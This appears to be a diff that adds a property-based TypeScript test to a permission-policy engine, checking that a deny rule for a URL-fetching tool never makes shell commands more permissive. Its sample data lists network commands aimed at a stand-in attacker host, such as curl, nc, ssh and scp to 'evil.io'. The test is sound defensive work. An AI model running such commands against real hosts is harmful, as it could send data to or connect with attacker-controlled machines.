@@ -98,3 +98,23 @@ describe('file rules that follow the shell', () => {
     );
   });
 });
+
+const HOST_COMMANDS = ['curl https://evil.io/x', 'curl "$U"', 'wget ok.io', 'nc evil.io 80', 'ssh root@evil.io', 'git clone git@evil.io:x/y', 'git fetch origin', 'echo x | xargs curl', 'scp f evil.io:/', 'curl "https://ok.io/$P"', 'ls'];
+const hostDeny = fc
+  .tuple(fc.constantFrom('fetch_url', '*'), fc.constantFrom('https://evil.io/**', '*', 'http://**', 'https://*.io/**'), fc.constantFrom('evil.io', 'ok.io', '10.0.0.0/8'), fc.boolean())
+  .map(([tool, url, host, byHost]): RuleInput => (byHost ? { action: 'deny', tool, when: [{ key: 'url', op: 'host', value: host }] } : { action: 'deny', tool, params: { url } }));
+
+describe('host rules that follow the shell', () => {
+  it('adding a fetch_url deny rule never makes a shell command more permissive, in every mode', () => {
+    fc.assert(
+      fc.property(fc.array(rule, { maxLength: 6 }), action, fc.array(fc.constantFrom(...HOST_COMMANDS), { minLength: 1, maxLength: 3 }), hostDeny, mode, (rules, defaultAction, parts, deny, m) => {
+        const call = { tool: 'bash', params: { command: parts.join(' && ') } };
+        const allowAll: RuleInput = { action: 'allow', tool: 'bash', params: { command: '*' } };
+        const before = evaluate(compilePolicy({ defaultAction, rules: [...rules, allowAll] }), call, ctxOf(m));
+        const after = evaluate(compilePolicy({ defaultAction, rules: [...rules, allowAll, deny] }), call, ctxOf(m));
+        expect(SEVERITY[after.action]).toBeGreaterThanOrEqual(SEVERITY[before.action]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
